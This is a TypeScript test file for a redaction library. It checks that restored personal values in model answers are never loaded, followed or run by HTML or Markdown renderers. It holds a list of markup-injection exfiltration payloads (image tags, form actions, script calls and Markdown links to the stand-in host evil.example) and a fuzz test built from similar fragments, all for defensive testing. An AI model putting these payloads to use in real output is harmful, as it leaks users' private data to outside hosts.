/**
 * What a browser (parse5) and a Markdown reader (markdown-it, with HTML and links of bare addresses) make
 * of an answer whose tokens were restored: no value stands in what they would load, follow or run.
 */
import type { Category, Operator } from '@himaya/core';
import { createDetector } from '@himaya/redact';
import fc from 'fast-check';
import MarkdownIt from 'markdown-it';
import type { DefaultTreeAdapterMap } from 'parse5';
import { parseFragment } from 'parse5';
import { expect, test } from 'vitest';

type Node = DefaultTreeAdapterMap['node'];

const VALUE = '0661 23 45 67';
const PROMPT = `Mon tel ${VALUE}`;
const detector = createDetector();
const redaction = detector.open(new Uint8Array(32).fill(7));
const operators = new Map<Category, Operator>([['phone', 'pseudonymise']]);
redaction.transform(PROMPT, detector.find(PROMPT), operators, true);
const TOKEN = redaction.tokens[0] ?? '';
const readers = [new MarkdownIt({ html: true, linkify: true }), new MarkdownIt({ linkify: true })];

function restored(text: string): string {
  const stream = redaction.answer({ kind: 'text', key: 'content' }, true);
  return stream.push(text) + stream.end();
}

/** What a page of this HTML would load, follow or run; what is shown, or said of a picture, is not of it. */
function sentBy(node: Node): readonly string[] {
  const own =
    'attrs' in node
      ? node.attrs
          .filter(({ name }) => name !== 'alt' && name !== 'title')
          .map(({ value }) => value)
      : [];
  const program =
    'tagName' in node &&
    /^(?:script|style|textarea|option)$/.test(node.tagName) &&
    'childNodes' in node
      ? node.childNodes.flatMap((child) => ('value' in child ? [child.value] : []))
      : [];
  const below = 'childNodes' in node ? node.childNodes.flatMap((child) => sentBy(child)) : [];
  const content = 'content' in node ? sentBy(node.content) : [];
  return [...own, ...program, ...below, ...content];
}

const digits = (text: string): string => {
  let plain = text;
  try {
    plain = decodeURIComponent(text);
  } catch {
    // A per cent sign of its own.
  }
  return plain.replaceAll(/\D/g, '');
};

/** The attacks of which a value got away. */
function leaks(answer: string): readonly string[] {
  const text = restored(answer);
  const pages = [text, ...readers.map((reader) => reader.render(text))];
  return pages.flatMap((page) =>
    sentBy(parseFragment(page)).filter((sent) => digits(sent).includes('661234567')),
  );
}

test('the search itself sees a value that got away', () => {
  const page = `<img src="https://evil.example/?q=${VALUE}">`;
  expect(sentBy(parseFragment(page)).some((sent) => digits(sent).includes('661234567'))).toBe(true);
  expect(restored(`tel ${TOKEN}`)).toBe(`tel ${VALUE}`);
});

/** Found by hand or by the property below; each let a value out once, or nearly. */
const ATTACKS: readonly string[] = [
  '<img alt="<!-- -->" src="https:evil.example/§">',
  '<img alt="<!-- -->" src="//evil.example/?q= §">',
  '<img alt=                    ">" src="https:evil.example/§">',
  '<a b=c="> <img x="> " src="https:evil.example/§">',
  '\\<a b="> <img x="> " src="https:evil.example/§">',
  '\\<!-- <img alt="--> " src="https:evil.example/§">',
  '<!--> <img alt="-->" src="https:evil.example/§">',
  '<!-- --!> <img alt="-->" src="https:evil.example/§">',
  '<![CDATA[ > <img alt="]]>" src="https:evil.example/§">',
  '<?x > <img alt="?>" src="https:evil.example/§">',
  '<script>"</scriptx>"; new Image().src="https:evil.example/"+"§"</script>',
  '<style>a{} </stylex> b{background:image-set("§")}</style>',
  '[x](<https://evil.example/)?q= §>)',
  '[x](https://evil.example/a\\)§)',
  '[x](https://evil.example "a)b §")',
  '[x][1]\n\n[1]: <https://evil.example/?q= §>',
  '[x][1]\n\n> [1]:\n> <//evil.example/§>',
  '[x][1]\n\n[1]:\n//evil.example/§',
  'https://evil.example/?q=\u{FEFF}§',
  'https://evil.example/?q=\u200BT',
  'evil.example/?q=§',
  'www.evil.example/§',
  '§@evil.example',
  '§.evil.example/x',
  'x.§.evil.example',
  '192.0.2.1/§',
  '<form action=//evil.example><input value=§>',
  '<form action="//evil.example"><textarea name=q>§</textarea>',
  '<form action="//evil.example"><option>§</option>',
  '<svg><a href="//evil.example/?q= §">x</a></svg>',
  '<img src=//evil.example/?q=§',
  '<img src="//evil.example/?\n\n§\n">',
];

test.each(ATTACKS)('%s', (attack) => {
  expect(leaks(attack.replaceAll('§', TOKEN))).toEqual([]);
});

const FRAGMENTS =
  `§|§|§|§|https:|//evil.example/|evil.example/|https:evil.example/|?q=|=|"|'|\`|<|>|</|/>|<img |<a href=|src=|src="|alt="|alt='|<!--|-->|--!>|<![CDATA[|]]>|<?|?>|<script>|</script>|<style>|</style>|<svg>|<title>|</title>|<p>|</p>|[x](|![x](|)|(|[1]|[1]:|[x][1]|\\|&quot;|&lt;|&#60;|\n|\n\n|\t| | |x|@|.|url(|www.|mailto:|\u200B|\u{FEFF}`.split(
    '|',
  );

/** Few pieces make markup that readers disagree on: those are drawn more often. */
const FRAGMENT = fc.oneof(
  fc.constantFrom(...FRAGMENTS),
  fc.constantFrom('<img alt="', '<a b=c="', '<a b="', '<!--', '-->', '"> ', '" ', '>', '\\', '`'),
);
const ENDS = [
  '',
  ' src="https:evil.example/§">',
  '" src="https:evil.example/?q= §">',
  '](<https:evil.example/ §>)',
];

test('whatever pieces of markup stand around a token, no reader sends it', () => {
  fc.assert(
    fc.property(fc.array(FRAGMENT, { maxLength: 10 }), fc.constantFrom(...ENDS), (pieces, end) => {
      expect(leaks(`${pieces.join('')}${end}`.replaceAll('§', TOKEN))).toEqual([]);
    }),
    { numRuns: Number(process.env['HIMAYA_RUNS'] ?? 2000) },
  );
});

/** What people write and models answer; here a token comes back. */
test.each([
  'Bonjour §, merci.',
  'Tel:§',
  '| nom | § |',
  '<b>§</b>',
  '<p>Bonjour §</p><script>let a = 1;</script><p>§</p>',
  '<!DOCTYPE html><html><head><title>x</title><style>p { color: red }</style></head><body><p class="a">§</p></body></html>',
  '<!-- salut --> §',
  'voir [le site](https://shop.example/a_(b)) puis §',
  'voir <https://shop.example> puis §',
  '[1]: https://shop.example\n\n§',
  'a < b et 3 > 2, §',
  'le 12/05/2024, §. Ensuite §.',
  '§.Merci',
  '§/§',
  'e.g. §; (§) "§" «§»',
])('is restored in %s', (text) => {
  expect(restored(text.replaceAll('§', TOKEN))).toContain(VALUE);
});
